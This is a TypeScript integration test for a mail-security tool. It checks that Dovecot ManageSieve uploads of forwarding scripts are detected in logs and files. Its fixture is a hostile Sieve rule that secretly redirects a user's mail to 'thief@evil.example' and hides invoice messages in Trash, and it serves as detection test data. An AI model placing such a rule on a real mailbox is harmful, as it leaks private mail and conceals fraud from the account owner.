// needs: postfix, dovecot-imapd, dovecot-pop3d, dovecot-sieve, dovecot-managesieved
/** A real ManageSieve: its log and its files tell of scripts that send mail on, and who did it. */
import { deepEqual, equal, match, ok } from 'node:assert/strict'
import { hash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { connect } from 'node:net'
import { join } from 'node:path'
import { test } from 'node:test'
import { startDovecot } from '../../lab/dovecot.ts'
import { labMissing } from '../../lab/missing.ts'
import { freePorts } from '../../lab/ports.ts'
import { openScratch, until } from '../../lab/scratch.ts'
import { applyDovecot } from '../../src/attach/dovecot/apply.ts'
import { planDovecot } from '../../src/attach/dovecot/plan.ts'
import { undoDovecot } from '../../src/attach/dovecot/undo.ts'
import { inspectAttached } from '../../src/attach/inspect.ts'
import { readList } from '../../src/attach/place.ts'
import { systemTools } from '../../src/attach/tools.ts'
import type { Event } from '../../src/events/event.ts'
import type { ForwardingChanged } from '../../src/events/login.ts'
import type { Instant } from '../../src/lib/time.ts'
import { openDovecotLog } from '../../src/sources/dovecot-log/open.ts'
import { ForwardingConfig } from '../../src/sources/forwarding/config.ts'
import { Watch } from '../../src/sources/forwarding/watch.ts'

const LATEST_MS = 20_000
const skip =
  labMissing([
    ...(['postfix', 'dovecot-imapd', 'dovecot-pop3d'] as const),
    ...(['dovecot-sieve', 'dovecot-managesieved'] as const),
  ]) ?? false
const clock = { now: () => Date.now() as Instant, monotonic: () => performance.now() }
const sha256 = (bytes: Uint8Array): string => hash('sha256', bytes)

/** Says one command after the other (RFC 5804); each must be granted. */
async function manage(port: number, commands: readonly string[]): Promise<void> {
  const socket = connect(port, '127.0.0.1')
  let heard = ''
  socket.on('error', () => {})
  socket.on('data', (bytes) => {
    heard += bytes
  })
  const granted = (what: string) =>
    until(`${what} is granted`, LATEST_MS, () => /^(?:OK|NO|BYE)\b.*\r\n/m.test(heard))
  await granted('the greeting')
  for (const command of commands) {
    heard = ''
    socket.write(`${command}\r\n`)
    await granted(command)
    ok(/^OK/m.test(heard), `${command}: ${heard}`)
  }
  socket.destroy()
}

const sieve = (port: number): string => `protocols = imap pop3 sieve
service managesieve-login {
  inet_listener sieve {
    port = ${port}
  }
}
plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
}`

test('PUTSCRIPT, SETACTIVE and DELETESCRIPT are told by log and by files', { skip }, async () => {
  const scratch = openScratch()
  const [imapPort = 0, pop3Port = 0, sievePort = 0] = await freePorts(3)
  const dovecot = await startDovecot(scratch, {
    users: [{ name: 'alice@example.jp', password: 'alice' }],
    imapPort,
    pop3Port,
    authSocket: join(scratch.folder, 'auth'),
    realm: 'example.jp',
    extra: `log_debug = event=managesieve_command_finished\n${sieve(sievePort)}`,
  })
  const log = openDovecotLog({
    ...{ instance: 'lab', log: dovecot.logFile, defaultRealm: 'example.jp' },
    ...{ zone: Temporal.Now.timeZoneId(), clock, hash: sha256 },
  })
  const events: Event[] = []
  log.follow(undefined, async (heard) => void events.push(...heard.events), { fromStart: true })
  const changes = () => events.filter(({ kind }) => kind === 'forwarding.changed')
  const mail = join(scratch.folder, 'mail')
  const watch = new Watch(
    {
      config: ForwardingConfig.parse({
        watch: [
          { files: `${mail}/*/*/.dovecot.sieve`, account: '{2}@{1}' },
          { files: `${mail}/*/*/sieve/*.sieve`, account: '{2}@{1}' },
        ],
      }),
      ...{ defaultRealm: 'example.jp', clock, hash: sha256 },
      ...{ pause: () => Promise.resolve(), isOver: () => false },
    },
    undefined,
    true,
  )
  const seen = async () =>
    ((await watch.round()).events as readonly ForwardingChanged[]).map(
      ({ account, name, change, targets, outside, hides }) =>
        [account, name, change, targets, outside, hides] as const,
    )
  const alice = 'sasl:alice@example.jp'
  try {
    deepEqual(await seen(), [])
    const script =
      'require ["copy", "fileinto"];\r\nredirect :copy "thief@evil.example";\r\nif header :contains "subject" "invoice" { fileinto "Trash"; }\r\n'
    const plain = Buffer.from('\0alice@example.jp\0alice').toString('base64')
    const login = `AUTHENTICATE "PLAIN" "${plain}"`
    await manage(sievePort, [login, `PUTSCRIPT "mine" {${script.length}+}\r\n${script}`])
    const about = [['thief@evil.example'], true, true] as const
    deepEqual(await seen(), [[alice, 'mine.sieve', 'added', ...about]])
    await manage(sievePort, [login, 'SETACTIVE "mine"'])
    deepEqual(await seen(), [[alice, 'mine.sieve', 'added', ...about]], 'now by the active link')
    await manage(sievePort, [login, 'SETACTIVE ""', 'DELETESCRIPT "mine"'])
    deepEqual(await seen(), [
      [alice, 'mine.sieve', 'removed', ...about],
      [alice, 'mine.sieve', 'removed', ...about],
    ])
    await until('the log tells it', LATEST_MS, () => changes().length >= 4)
    deepEqual(
      (changes() as readonly ForwardingChanged[]).map(({ account, change, name }) => [
        ...[account, change, name],
      ]),
      [
        [alice, 'changed', 'mine'],
        [alice, 'added', 'mine'],
        [alice, 'removed', undefined],
        [alice, 'removed', 'mine'],
      ],
    )
    const lines = readFileSync(dovecot.logFile, 'utf8').split('\n')
    equal(lines.filter((line) => line.includes(': Debug: ')).length, 4, 'and nothing else besides')
    deepEqual(
      events.filter(({ kind }) => kind === 'line.unrecognised'),
      [],
    )
  } finally {
    await log.close()
    await dovecot.stop()
    await scratch.close()
  }
})

test('attached, a server that told nothing tells of scripts; undone, it is silent again', {
  skip,
}, async () => {
  const scratch = openScratch()
  const [imapPort = 0, pop3Port = 0, sievePort = 0] = await freePorts(3)
  const dovecot = await startDovecot(scratch, {
    ...{ users: [{ name: 'alice@example.jp', password: 'alice' }], imapPort, pop3Port },
    ...{ authSocket: join(scratch.folder, 'auth'), realm: 'example.jp', extra: sieve(sievePort) },
  })
  const { configFile, logFile } = dovecot
  const instancesFile = join(scratch.folder, 'sekimori/instances.json')
  const options = { configFile, instancesFile, now: clock.now(), policy: 'inet:127.0.0.1:1' }
  const plain = Buffer.from('\0alice@example.jp\0alice').toString('base64')
  const told = () =>
    readFileSync(logFile, 'utf8')
      .split('\n')
      .filter((l) => l.includes(': Debug: '))
  const reread = () => readFileSync(logFile, 'utf8').split('SIGHUP').length
  const store = (name: string) =>
    manage(sievePort, [`AUTHENTICATE "PLAIN" "${plain}"`, `PUTSCRIPT "${name}" {5+}\r\nkeep;`])
  try {
    await store('before')
    deepEqual(told(), [])
    const original = readFileSync(configFile)
    const before = reread()
    const plan = await planDovecot(systemTools, options)
    match(plan.diff, /^\+log_debug = event=managesieve_command_finished$/m)
    await applyDovecot(systemTools, plan)
    await until('Dovecot has read it', LATEST_MS, () => reread() > before)
    await until('a script is told of', LATEST_MS, async () => {
      await store('while')
      return told().length > 0
    })
    ok(told().every((line) => line.includes('while')))
    const [attached] = readList(instancesFile)
    ok(attached !== undefined)
    const { standing, warnings } = await inspectAttached(systemTools, attached, instancesFile)
    deepEqual([standing, warnings], ['as-written', []])
    await undoDovecot(systemTools, options)
    deepEqual(readFileSync(configFile), original)
    await until('Dovecot has read that', LATEST_MS, () => reread() > before + 1)
    await until('it is silent', LATEST_MS, async () => {
      const heard = told().length
      await store('after')
      return told().length === heard
    })
  } finally {
    await dovecot.stop()
    await scratch.close()
  }
})
